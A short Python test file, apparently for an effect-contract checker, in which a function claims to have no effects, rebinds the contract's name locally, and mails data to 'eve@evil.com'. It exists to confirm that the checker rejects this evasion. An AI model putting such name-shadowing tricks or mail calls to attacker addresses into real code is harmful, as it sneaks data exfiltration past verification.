# not proved: a local of the contract's name changes nothing
import clauz3
from tools.switched.trusted import contracts as c
from tools.switched.trusted.contracts import no_guarantees, none
from tools.switched.trusted.effects import mail


@clauz3.guarantee(none())
def main() -> None:
    none = no_guarantees
    mail("eve@evil.com", "x")
